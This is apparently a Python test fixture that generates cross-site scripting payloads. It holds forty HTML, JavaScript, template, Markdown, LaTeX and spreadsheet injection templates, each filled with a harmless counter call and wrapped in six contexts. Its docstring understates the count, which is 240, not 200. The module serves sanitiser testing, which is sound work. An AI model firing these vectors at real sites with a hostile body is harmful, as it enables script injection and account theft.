"""Two hundred texts that would run as code, were they ever anything but text."""

from __future__ import annotations

_CALL = "window.__xss=(window.__xss||0)+1"

_TEMPLATES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href='javascript:{}'>here</a>",
    '<a href="javascript:{}" target=_self>here</a>',
    "<b onmouseover={}>bold</b>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style onload={}></style>",
    "<object data=javascript:{}></object>",
    "<marquee onstart={}>",
    "<form><button formaction=javascript:{}>x</button></form>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "</style><img src=x onerror={}>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "'-{}-'",
    '"-{}-"',
    "';{}//",
    '";{}//',
    "`${{{}}}`",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "$\\href{{javascript:{}}}{{x}}$",
    "\\(\\unicode{{<img src=x onerror={}>}}\\)",
    "![x](javascript:{})",
    '=HYPERLINK("javascript:{}")',
)
_DRESSED = ("{}", "x {} x", '">{}', "<b>{}</b>", "&lt;{}", "<!--{}")


def payloads() -> list[str]:
    """Return the texts, each another one."""
    bare = [template.format(_CALL) for template in _TEMPLATES]
    return [dressed.replace("{}", text) for dressed in _DRESSED for text in bare]
